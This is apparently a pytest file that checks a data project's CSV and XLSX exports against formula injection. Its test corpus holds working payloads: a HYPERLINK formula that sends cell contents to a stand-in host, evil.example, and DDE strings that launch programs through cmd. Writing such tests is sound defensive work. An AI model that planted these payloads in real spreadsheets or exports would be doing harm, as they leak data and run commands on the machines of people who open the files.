"""Every CSV and XLSX Huifang writes shows a formula-like text as text (OWASP CSV/formula injection).

The corpus holds what was found in the demo (a HYPERLINK organisation name, `=1+1`, a DDE payload)
and every first character OWASP lists, ASCII and full-width. A file is safe when no text cell a
spreadsheet reads starts with one of them and no XLSX cell is a formula.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

import sampling
from analysis import export_dataset
from sampling.cells import FORMULA_STARTS, csv_bytes, neutralise, neutralise_frame, xlsx_bytes
from tests.sampling.conftest import AS_OF, good_rows, write_csv

CORPUS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+41",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=cmd|"/C notepad"!A1',
)


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def _csv_text_cells(data: bytes) -> list[str]:
    """The quoted (text) cells of a CSV; unquoted cells are numbers and come back as floats."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), quoting=csv.QUOTE_NONNUMERIC)
    return [cell for row in rows for cell in row if isinstance(cell, str)]


def _corpus_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "organisation": list(CORPUS),
            "district": ["黄浦区"] * len(CORPUS),
            "weight": [-2.5] * len(CORPUS),
            "count": list(range(-6, len(CORPUS) - 6)),
        }
    )


@pytest.mark.parametrize("payload", CORPUS)
def test_a_formula_like_text_gets_a_leading_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["黄浦区", "ORG0001", "a=b", "3.5", "", " =1"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


def test_negative_numbers_stay_numbers():
    out = neutralise_frame(_corpus_table())
    assert out["weight"].tolist() == [-2.5] * len(CORPUS)
    assert out["count"].dtype.kind == "i" and out["count"].min() == -6


def test_column_names_and_index_labels_are_neutralised_too():
    data = pd.DataFrame({"=evil": [1]}, index=pd.Index(["@unit"], name="-id"))
    out = neutralise_frame(data)
    assert list(out.columns) == ["'=evil"] and list(out.index) == ["'@unit"] and out.index.name == "'-id"


def test_a_lone_carriage_return_cannot_start_an_unneutralised_row():
    cells = _csv_text_cells(csv_bytes(pd.DataFrame({"note": ["ok\r=1+1"]})))
    assert cells == ["note", "ok\r=1+1"]


def test_csv_bytes_hold_no_cell_that_starts_like_a_formula():
    cells = _csv_text_cells(csv_bytes(_corpus_table()))
    assert not [c for c in cells if _dangerous(c)]
    assert "'=1+1" in cells and "'＝1+1" in cells and "'\r=1+1" in cells


def _xlsx_problems(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    problems = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and _dangerous(cell.value)):
                    problems.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return problems


def test_xlsx_bytes_hold_no_formula_and_keep_numbers_numeric():
    data = xlsx_bytes({"data": _corpus_table()})
    assert _xlsx_problems(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    assert sheet["C2"].value == -2.5 and sheet["C2"].data_type == "n"
    assert sheet["A2"].value == "'" + CORPUS[0] and sheet["A2"].data_type == "s"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_analysis_export_is_safe_against_the_corpus(tmp_path, suffix):
    path = export_dataset(_corpus_table(), tmp_path / f"out.{suffix}")
    if suffix == "csv":
        assert not [c for c in _csv_text_cells(path.read_bytes()) if _dangerous(c)]
    else:
        assert _xlsx_problems(path.read_bytes()) == []


def test_the_rejected_rows_download_and_report_are_safe_against_the_corpus(tmp_path):
    rows = good_rows(2 * len(CORPUS) + 2)
    for number, payload in enumerate(CORPUS):
        rows[number]["district"] = payload  # an unknown district: the row is rejected, its value shown
        rows[number + len(CORPUS)]["organisation"] = payload
    loaded = sampling.load_frame(write_csv(tmp_path / "f.csv", rows), as_of=AS_OF)
    assert len(loaded.rejected) >= len(CORPUS)
    for download in (loaded.rejected_csv(), loaded.report_csv()):
        cells = _csv_text_cells(download)
        assert not [c for c in cells if _dangerous(c)]
        assert "'=1+1" in cells
